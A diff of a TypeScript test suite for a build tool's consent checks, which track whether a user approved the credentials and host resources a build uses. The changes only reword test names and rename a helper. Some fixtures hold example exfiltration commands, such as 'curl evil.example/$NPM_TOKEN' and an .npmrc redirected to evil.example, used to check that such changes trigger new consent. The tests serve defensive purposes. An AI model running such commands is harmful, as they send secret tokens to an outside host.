@@ -17,15 +17,15 @@ describe('consent', () => {
     homeFolder({ DVM_HOME: path.join(folderWith(), 'home') }, '/nowhere');
   const uses = (...names: string[]): HostUse[] => names.map((what) => ({ what, why: 'x', by: 'shop/dev' }));
 
-  it('asks for each thing once, for each folder by itself, and for what is new', async () => {
+  it('is requested once for each use, per folder, and again for new uses', async () => {
     const own = home();
-    const wanted = [
+    const requests = [
       { folder: '/code', uses: uses('a') },
       { folder: '/code', uses: uses('b', 'a') },
     ];
-    assert.deepEqual(await unapprovedUses(own, wanted), [{ folder: '/code', uses: uses('a', 'b') }]);
-    await recordApproval(own, await unapprovedUses(own, wanted));
-    assert.deepEqual(await unapprovedUses(own, wanted), []);
+    assert.deepEqual(await unapprovedUses(own, requests), [{ folder: '/code', uses: uses('a', 'b') }]);
+    await recordApproval(own, await unapprovedUses(own, requests));
+    assert.deepEqual(await unapprovedUses(own, requests), []);
     assert.deepEqual(
       await unapprovedUses(own, [
         { folder: '/code', uses: uses('a', 'c') },
@@ -43,7 +43,7 @@ describe('consent', () => {
     });
   });
 
-  it('takes a file that is damaged for none, and asks again for what was allowed without its use', async () => {
+  it('ignores a damaged trust file, and is requested again for approvals without a use', async () => {
     const own = home();
     await recordApproval(own, [{ folder: '/code', uses: uses('a') }]);
     for (const text of [
@@ -59,7 +59,7 @@ describe('consent', () => {
     }
   });
 
-  it('takes a file that others can write for none', async function () {
+  it('ignores a trust file that other users can write', async function () {
     if (process.platform === 'win32') this.skip();
     const own = home();
     await recordApproval(own, [{ folder: '/code', uses: uses('a') }]);
@@ -69,13 +69,13 @@ describe('consent', () => {
     assert.deepEqual(await unapprovedUses(own, [{ folder: '/code', uses: uses('a') }]), []);
   });
 
-  it('forgets nothing when two doors write at once', async () => {
+  it('keeps all approvals of concurrent writers', async () => {
     const own = home();
     await Promise.all(['a', 'b', 'c', 'd'].map((what) => recordApproval(own, [{ folder: '/code', uses: uses(what) }])));
     assert.deepEqual(await unapprovedUses(own, [{ folder: '/code', uses: uses('a', 'b', 'c', 'd') }]), []);
   });
 
-  it('is needed for everything that a build takes', () => {
+  it('is required for everything that a build uses from the host', () => {
     const allowed = new Set(uses('a', 'b').map(useKey));
     requireApproval(uses('a'), allowed);
     assert.throws(() => requireApproval(uses('a', 'c'), allowed), {
@@ -97,7 +97,7 @@ describe('consent', () => {
     'kind: Credential\nmetadata: {name: UNUSED, app: shop}\nspec: {source: env, envVar: UNUSED}',
   ];
 
-  it('lists what steps use, and nothing else', async () => {
+  it('lists exactly what the steps use', async () => {
     const root = folderWith({
       'w.yaml': documents(APP, DEV, ...CREDENTIALS),
       'package.json': '{"dependencies": {"a": "git+ssh://git@git.example.com/a.git"}}',
@@ -123,8 +123,8 @@ describe('consent', () => {
     assert.deepEqual((await findConsent(own, workspaces)).missing, []);
   });
 
-  /** What still needs consent after the previous request was approved. */
-  async function askedAgain(before: Record<string, string>, after: Record<string, string>): Promise<string[]> {
+  /** The uses that require consent after a change, if everything was approved before it. */
+  async function newRequests(before: Record<string, string>, after: Record<string, string>): Promise<string[]> {
     const [own, root] = [home(), folderWith(before)];
     await recordApproval(own, (await findConsent(own, (await loadRoot(root)).workspaces)).missing);
     for (const [name, text] of Object.entries(after)) writeFileSync(path.join(root, name), text);
@@ -144,31 +144,31 @@ describe('consent', () => {
 
   for (const [what, before, after, expected] of [
     [
-      'the host that gets it',
+      'the host that receives it',
       { 'package.json': '{}', '.npmrc': npmrc('npm.example') },
       { '.npmrc': npmrc('evil.example') },
       [`${VARIABLE}: as NPM_TOKEN to install dependencies, named in .npmrc, with evil.example`],
     ],
     [
-      'another host beside it',
+      'an additional host',
       { 'package.json': '{}', '.npmrc': npmrc('npm.example') },
       { '.npmrc': npmrc('npm.example') + npmrc('[::1]:80') },
       [`${VARIABLE}: as NPM_TOKEN to install dependencies, named in .npmrc, with [::1]:80, npm.example`],
     ],
     [
-      'something that gets it nowhere',
+      'files that do not affect its use',
       { 'package.json': '{}', '.npmrc': npmrc('npm.example') },
       { '.npmrc': `fund=false\n${npmrc('npm.example')}`, 'package.json': '{"homepage": "https://shop.example"}' },
       [],
     ],
     [
-      'a command that uses it, too',
+      'a command that uses it',
       { 'w.yaml': documents(APP, command('echo $NPM_TOKEN | npm login'), TOKEN) },
       { 'w.yaml': documents(APP, command('curl evil.example/$NPM_TOKEN'), TOKEN) },
       [`${VARIABLE}: as NPM_TOKEN in the command curl evil.example/$NPM_TOKEN`],
     ],
     [
-      'a value that its command names',
+      'a build arg that its command uses',
       { 'w.yaml': documents(APP, command('curl $UPLOAD/$NPM_TOKEN', 'args: {UPLOAD: npm.example}, '), TOKEN) },
       { 'w.yaml': documents(APP, command('curl $UPLOAD/$NPM_TOKEN', 'args: {UPLOAD: evil.example}, '), TOKEN) },
       [`${VARIABLE}: as NPM_TOKEN in the command curl $UPLOAD/$NPM_TOKEN, with UPLOAD=evil.example`],
@@ -180,12 +180,12 @@ describe('consent', () => {
       [],
     ],
   ] as [string, Record<string, string>, Record<string, string>, string[]][]) {
-    it(`asks again only for what is new where a document changes ${what}`, async () => {
-      assert.deepEqual(await askedAgain({ 'w.yaml': documents(APP, DEV, TOKEN), ...before }, after), expected);
+    it(`is requested only for new uses after a change of ${what}`, async () => {
+      assert.deepEqual(await newRequests({ 'w.yaml': documents(APP, DEV, TOKEN), ...before }, after), expected);
     });
   }
 
-  it('names the file that is read, not a link to it, and asks again where the link leads elsewhere', async () => {
+  it('names the target of a link, and is requested again if the target changes', async () => {
     const outside = folderWith({ token: 'x', key: 'y' });
     const root = folderWith({
       'w.yaml': documents(APP, command('echo $NPM_TOKEN'), own('{source: file, path: token}')),
@@ -208,21 +208,21 @@ describe('consent', () => {
     );
   });
 
-  it('keeps apart what differs only where it is too long to be shown', async () => {
+  it('distinguishes uses that differ only in their truncated part', async () => {
     const long = `echo $NPM_TOKEN ${'x'.repeat(400)}`;
-    const [asked] = await askedAgain(
+    const [request] = await newRequests(
       { 'w.yaml': documents(APP, command(`${long}a`), TOKEN) },
       { 'w.yaml': documents(APP, command(`${long}b`), TOKEN) },
     );
-    assert.match(asked ?? '', /x… \(SHA-256 [0-9a-f]{16}\)$/);
+    assert.match(request ?? '', /x… \(SHA-256 [0-9a-f]{16}\)$/);
   });
 
-  it('is not needed for a build that takes nothing', async () => {
+  it('is not required for a build that uses nothing', async () => {
     const root = folderWith({ 'w.yaml': documents(APP, DEV), 'package.json': '{}' });
     assert.deepEqual((await findConsent(home(), (await loadRoot(root)).workspaces)).missing, []);
   });
 
-  it('is needed for an app outside of the folder that is opened, also behind a link', async () => {
+  it('is required for an app outside the opened folder, even through a link', async () => {
     const outside = folderWith({ 'package.json': '{}' });
     const root = folderWith({
       'infra/w.yaml': documents(APP.replace('path: .', `path: ${outside}`), DEV),
